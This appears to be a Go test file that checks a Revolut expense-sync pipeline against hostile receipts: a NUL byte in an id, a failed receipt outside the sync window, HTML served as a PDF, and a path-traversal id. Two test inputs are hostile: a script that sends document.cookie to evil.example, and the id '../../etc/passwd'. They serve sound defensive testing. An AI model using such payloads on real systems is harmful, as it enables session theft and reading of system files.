package pipeline_test

// Hostile receipts (issue 21 items 1, 5 and 7): a receipt id holding a NUL, receipts that
// fail and fall out of the expense window, an HTML page served as a receipt, an id that
// cannot name a file. Each is served by the fake over HTTP through revoluttest.Hostile.

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/revledger/revledger/extract/revolut"
	"github.com/revledger/revledger/extract/revolut/revoluttest"
	"github.com/revledger/revledger/pipeline"
)

// newHostileHarness is newFaultHarness with the client pointed at a Hostile in front of the
// fake.
func newHostileHarness(t *testing.T, opts revoluttest.Options) (*faultHarness, *revoluttest.Hostile) {
	t.Helper()
	opts.End = start
	opts.Clock = func() time.Time { return start }
	fake := revoluttest.NewTestServer(t, opts)
	h := newFaultHarnessWithFake(t, fake, func() time.Time { return start })
	hostile, url := revoluttest.NewHostileTestServer(t, fake)
	creds := fake.Credentials()
	key, err := revolut.ParsePrivateKey(creds.PrivateKeyPEM)
	if err != nil {
		t.Fatal(err)
	}
	h.client, err = revolut.NewClient(revolut.Config{
		BaseURL: url, ClientID: creds.ClientID, Issuer: creds.Issuer, PrivateKey: key,
		RefreshToken: creds.RefreshToken, RatePerMinute: 100000, RetryBaseDelay: time.Millisecond, RetryMaxDelay: 10 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	return h, hostile
}

// receiptFiles lists the receipt files in the export folder, as expense/receipt.ext.
func receiptFiles(t *testing.T, dir string) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "receipts", "*", "*"))
	if err != nil {
		t.Fatal(err)
	}
	out := make([]string, len(files))
	for i, f := range files {
		out[i] = filepath.Base(filepath.Dir(f)) + "/" + filepath.Base(f)
	}
	return out
}

// TestHostileNULReceiptID serves one expense with "receipt_ids":["a\u0000b"]. The expense is
// quarantined (PostgreSQL's jsonb and text refuse the NUL), its receipt is never looked up nor
// downloaded, every other receipt is stored, and the run succeeds; before, the receipt step
// queried the warehouse with the NUL (SQLSTATE 22021) and the run failed every night.
func TestHostileNULReceiptID(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	h, hostile := newHostileHarness(t, revoluttest.Options{Seed: 211, Transactions: 300, Span: 40 * day})
	truth := h.fake.Truth()
	var victim revolut.Expense
	for _, e := range truth.Expenses {
		if len(e.ReceiptIDs) > 0 {
			victim = e
			break
		}
	}
	if victim.ID == "" {
		t.Fatal("the fake served no expense with receipts")
	}
	hostile.RewriteExpense(victim.ID, func(rec map[string]any) { rec["receipt_ids"] = []any{"a\x00b"} })

	sum, err := h.pipeline(nil).Sync(ctx)
	if err != nil {
		t.Fatalf("sync with a NUL in a receipt id: %v", err)
	}
	// Every receipt of the fake except the victim's own: the victim now names only "a\x00b".
	want := len(truth.Receipts) - len(victim.ReceiptIDs)
	if sum.ReceiptsStored != int64(want) || sum.ReceiptsFailed != 0 {
		t.Errorf("receipts stored %d failed %d, want %d and 0 (%d receipts, %d of them the victim's)",
			sum.ReceiptsStored, sum.ReceiptsFailed, want, len(truth.Receipts), len(victim.ReceiptIDs))
	}
	if got := len(receiptFiles(t, h.dir)); got != want {
		t.Errorf("%d receipt files, want %d", got, want)
	}
	if sum.Quarantined < 1 {
		t.Errorf("summary counts %d quarantined records, want the expense", sum.Quarantined)
	}
	c := h.conn()
	if n := queryInt(t, c, `SELECT count(*) FROM quarantine WHERE stream = 'expenses' AND source_id = $1 AND reason LIKE '%jsonb%'`, victim.ID); n != 1 {
		t.Errorf("the expense is in quarantine %d times with a jsonb reason, want once", n)
	}
	if n := queryInt(t, c, `SELECT count(*) FROM runs WHERE id = $1 AND status = 'succeeded'`, sum.RunID); n != 1 {
		t.Error("the run is not recorded as succeeded")
	}
	// The fake was never asked for a receipt of the victim.
	if got := h.fake.Stats().ByPath["GET /expenses/{expense_id}/receipts/{receipt_id}/content"]; got != want {
		t.Errorf("%d receipt downloads, want %d", got, want)
	}
	// The next night is the same, not worse.
	again, err := h.pipeline(nil).Sync(ctx)
	if err != nil {
		t.Fatalf("second sync: %v", err)
	}
	if again.ReceiptsStored != 0 || again.ReceiptsSkipped != int64(want) {
		t.Errorf("second sync stored %d and skipped %d receipts, want 0 and %d", again.ReceiptsStored, again.ReceiptsSkipped, want)
	}
	t.Logf("NUL receipt id: %d receipts served (%d of them the victim's), %d stored, %d quarantined, run succeeded; next run stored %d, skipped %d",
		len(truth.Receipts), len(victim.ReceiptIDs), sum.ReceiptsStored, sum.Quarantined, again.ReceiptsStored, again.ReceiptsSkipped)
}

// TestHostileReceiptRetriedOutsideWindow: a receipt fails (the fake answers 500 to every try
// of the first run), then its expense is outside every later run's expense window. The next
// sync, which does not list that expense, stores it anyway: the receipt step lists what is
// not stored from the warehouse, whatever the window. Before, the log said "will retry next
// run" and no run ever did.
func TestHostileReceiptRetriedOutsideWindow(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	h, hostile := newHostileHarness(t, revoluttest.Options{Seed: 212, Transactions: 400, Span: 90 * day})
	truth := h.fake.Truth()
	// Windows of the second sync: transactions from the checkpoint (start) minus 5 days,
	// expenses over the last 10 days, so from start-10d. An expense 30 days old is outside.
	mod := func(c *pipeline.Config) { c.TransactionsLookback, c.ExpensesWindow = 5*day, 10*day }
	var victim revolut.Expense
	for _, e := range truth.Expenses {
		if len(e.ReceiptIDs) > 0 && e.ExpenseDate.Before(start.Add(-30*day)) {
			victim = e
			break
		}
	}
	if victim.ID == "" {
		t.Fatal("no expense with receipts older than 30 days")
	}
	failing := victim.ReceiptIDs[0]
	hostile.SetReceipt(failing, revoluttest.HostileReceipt{Status: 500, ContentType: "application/json", Body: []byte(`{"code":0,"message":"Internal server error"}`)})

	first, err := h.pipeline(mod).Sync(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if first.ReceiptsFailed != 1 || first.ReceiptsStored != int64(len(truth.Receipts)-1) {
		t.Fatalf("first sync: stored %d failed %d, want %d and 1", first.ReceiptsStored, first.ReceiptsFailed, len(truth.Receipts)-1)
	}
	hostile.ClearReceipt(failing)

	second, err := h.pipeline(mod).Sync(ctx)
	if err != nil {
		t.Fatal(err)
	}
	// The second sync did not read the victim's expense: fewer expenses than the first.
	if second.Records["expenses"] >= first.Records["expenses"] {
		t.Fatalf("second sync read %d expenses, the first %d: the window does not exclude the victim", second.Records["expenses"], first.Records["expenses"])
	}
	if second.ReceiptsStored != 1 || second.ReceiptsFailed != 0 || second.ReceiptsSkipped != int64(len(truth.Receipts)-1) {
		t.Errorf("second sync: stored %d failed %d skipped %d, want 1, 0, %d", second.ReceiptsStored, second.ReceiptsFailed, second.ReceiptsSkipped, len(truth.Receipts)-1)
	}
	files := receiptFiles(t, h.dir)
	key := ""
	for _, f := range files {
		if filepath.Dir(f) == victim.ID && trimExt(filepath.Base(f)) == failing {
			key = f
		}
	}
	if key == "" {
		t.Fatalf("receipt %s/%s not in the folder after the second sync", victim.ID, failing)
	}
	got, err := os.ReadFile(filepath.Join(h.dir, "receipts", filepath.FromSlash(key)))
	if err != nil || !bytes.Equal(got, truth.Receipts[failing].Data) {
		t.Errorf("stored receipt differs from the fake's (%d bytes, %v)", len(got), err)
	}
	if n := queryInt(t, h.conn(), `SELECT count(*) FROM receipts WHERE expense_id = $1 AND receipt_id = $2 AND run_id = $3`, victim.ID, failing, second.RunID); n != 1 {
		t.Error("the receipt is not recorded by the second run")
	}
	t.Logf("retry outside the window: first sync read %d expenses, stored %d receipts, 1 failed (expense dated %s); second sync read %d expenses, stored %d, skipped %d",
		first.Records["expenses"], first.ReceiptsStored, victim.ExpenseDate.Format("2006-01-02"), second.Records["expenses"], second.ReceiptsStored, second.ReceiptsSkipped)
}

func trimExt(name string) string { return name[:len(name)-len(filepath.Ext(name))] }

// TestHostileHTMLReceipt: the fake serves an HTML page with a script as a receipt. It is
// stored as .bin, application/octet-stream, and the workbook links that file; no .html file
// ever appears in the export folder.
func TestHostileHTMLReceipt(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	h, hostile := newHostileHarness(t, revoluttest.Options{Seed: 213, Transactions: 200, Span: 30 * day})
	truth := h.fake.Truth()
	var victim revolut.Expense
	for _, e := range truth.Expenses {
		if len(e.ReceiptIDs) > 0 {
			victim = e
			break
		}
	}
	rid := victim.ReceiptIDs[0]
	hostile.SetReceipt(rid, revoluttest.HostileReceipt{ContentType: "application/pdf",
		Body: []byte("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>")})
	if _, err := h.pipeline(nil).Sync(ctx); err != nil {
		t.Fatal(err)
	}
	files := receiptFiles(t, h.dir)
	if !slices.Contains(files, victim.ID+"/"+rid+".bin") {
		t.Errorf("HTML receipt not stored as %s/%s.bin: %v", victim.ID, rid, files)
	}
	for _, f := range files {
		if filepath.Ext(f) == ".html" || filepath.Ext(f) == ".htm" {
			t.Errorf("%s stored with an HTML extension", f)
		}
	}
	c := h.conn()
	if n := queryInt(t, c, `SELECT count(*) FROM receipts WHERE receipt_id = $1 AND content_type = 'application/octet-stream' AND object_key LIKE '%.bin'`, rid); n != 1 {
		t.Error("receipt not recorded as application/octet-stream under a .bin key")
	}
	if n := queryInt(t, c, `SELECT count(*) FROM receipts WHERE content_type NOT IN ('application/pdf', 'image/png', 'image/jpeg', 'application/octet-stream')`); n != 0 {
		t.Errorf("%d receipts recorded with a type off the allow-list", n)
	}
	t.Logf("HTML receipt: %d receipt files, the HTML one as %s/%s.bin", len(files), victim.ID, rid)
}

// TestHostileReceiptIDPath: an expense names a receipt "../../etc/passwd" (valid JSON, stored
// as it is). The receipt step quarantines it with the reason and never asks the API for it;
// the run succeeds and the other receipts are stored.
func TestHostileReceiptIDPath(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	h, hostile := newHostileHarness(t, revoluttest.Options{Seed: 214, Transactions: 200, Span: 30 * day})
	truth := h.fake.Truth()
	var victim revolut.Expense
	for _, e := range truth.Expenses {
		if len(e.ReceiptIDs) > 0 {
			victim = e
			break
		}
	}
	hostile.RewriteExpense(victim.ID, func(rec map[string]any) { rec["receipt_ids"] = []any{"../../etc/passwd"} })
	sum, err := h.pipeline(nil).Sync(ctx)
	if err != nil {
		t.Fatal(err)
	}
	want := len(truth.Receipts) - len(victim.ReceiptIDs)
	if sum.ReceiptsStored != int64(want) || sum.ReceiptsFailed != 0 || len(sum.ReceiptFailures) != 1 {
		t.Errorf("stored %d failed %d, failures %q; want %d, 0 and one reason", sum.ReceiptsStored, sum.ReceiptsFailed, sum.ReceiptFailures, want)
	}
	if got := h.fake.Stats().ByPath["GET /expenses/{expense_id}/receipts/{receipt_id}/content"]; got != want {
		t.Errorf("%d receipt downloads, want %d (none for the hostile id)", got, want)
	}
	if n := queryInt(t, h.conn(), `SELECT count(*) FROM quarantine WHERE stream = 'receipts' AND source_id = $1 AND reason LIKE '%invalid receipt id%'`, victim.ID); n != 1 {
		t.Errorf("hostile receipt id quarantined %d times, want once", n)
	}
	t.Logf("receipt id ../../etc/passwd: quarantined, not downloaded; %d receipts stored", sum.ReceiptsStored)
}
